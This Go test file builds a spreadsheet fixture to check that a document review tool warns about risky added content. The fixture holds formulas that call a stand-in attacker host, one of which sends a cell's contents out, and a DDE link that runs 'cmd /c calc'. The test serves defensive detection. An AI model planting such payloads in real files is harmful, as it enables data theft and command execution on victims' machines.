package main

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"html"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"atelier/formats/formatstest"
)

// RV-01: the review's text, JSON and page warn of what a new file would do
// when it is opened.
func TestReviewWarnsOfAddedFiles(t *testing.T) {
	b, err := os.ReadFile(filepath.Join(formatstest.Root(t), "testdata", "documents", "sales.xlsx"))
	require.NoError(t, err)
	parts := map[string]string{}
	for name, part := range formatstest.Parts(t, b) {
		parts[name] = string(part)
	}
	add := func(name, before, text string) {
		require.Contains(t, parts[name], before, name)
		parts[name] = strings.Replace(parts[name], before, text+before, 1)
	}
	const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	const main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
	add("xl/worksheets/sheet1.xml", "</sheetData>", `<row r="900"><c r="A900"><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f></c><c r="B900"><f>_xlfn.IMAGE("http://evil.example/p.png")</f></c><c r="C900"><f>RTD("evil.server",,"x")</f></c><c r="D900"><f>HYPERLINK("http://evil.example/go")</f></c></row>`)
	parts["xl/externalLinks/externalLink8.xml"] = `<externalLink xmlns="` + main + `"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`
	parts["xl/externalLinks/externalLink9.xml"] = `<externalLink xmlns="` + main + `"/>`
	add("xl/_rels/workbook.xml.rels", "</Relationships>", `<Relationship Id="rX8" Type="`+rel+`externalLink" Target="externalLinks/externalLink8.xml"/><Relationship Id="rX9" Type="`+rel+`externalLink" Target="externalLinks/externalLink9.xml"/>`)
	parts["xl/externalLinks/_rels/externalLink9.xml.rels"] = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="` + rel + `externalLinkPath" Target="file:///c:/x.xlsx" TargetMode="External"/></Relationships>`
	want := []string{
		`the formula in Sales!A900 reaches out: =WEBSERVICE("http://evil.example/"&A1)`,
		`the formula in Sales!B900 reaches out: =IMAGE("http://evil.example/p.png")`,
		`the formula in Sales!C900 reaches out: =RTD("evil.server",,"x")`,
		`the formula in Sales!D900 reaches out: =HYPERLINK("http://evil.example/go")`,
		"new DDE link, which can start programs: cmd|/c calc",
		"new external externalLinkPath: file:///c:/x.xlsx",
	}
	var risky bytes.Buffer
	zw := zip.NewWriter(&risky)
	for name, part := range parts {
		w, err := zw.Create(name)
		require.NoError(t, err)
		_, err = io.WriteString(w, part)
		require.NoError(t, err)
	}
	require.NoError(t, zw.Close())

	dir, home, from := t.TempDir(), t.TempDir(), t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(from, "risky.xlsx"), risky.Bytes(), 0o600))
	run := func(args ...string) string {
		out, err := exec.Command(program(t), append(args, "--in", dir, "--home", home)...).Output()
		require.NoError(t, err, "%s %s", args, out)
		return string(out)
	}
	run("run", "Look at it", "--model", "pseudo", "--attach", filepath.Join(from, "risky.xlsx"))

	text := run("review")
	var asJSON struct {
		Changes []struct {
			ChangeType string `json:"change_type"`
			Warnings   []string
		}
	}
	require.NoError(t, json.Unmarshal([]byte(run("review", "--json")), &asJSON))
	require.Len(t, asJSON.Changes, 1)
	require.Equal(t, "added", asJSON.Changes[0].ChangeType)
	page := filepath.Join(t.TempDir(), "review.html")
	run("review", "--html", page, "--no-pictures")
	b, err = os.ReadFile(page)
	require.NoError(t, err)
	shown := html.UnescapeString(string(b))
	for _, w := range want {
		require.Contains(t, text, "! "+w)
		require.Contains(t, asJSON.Changes[0].Warnings, w)
		require.Contains(t, shown, w)
	}
}
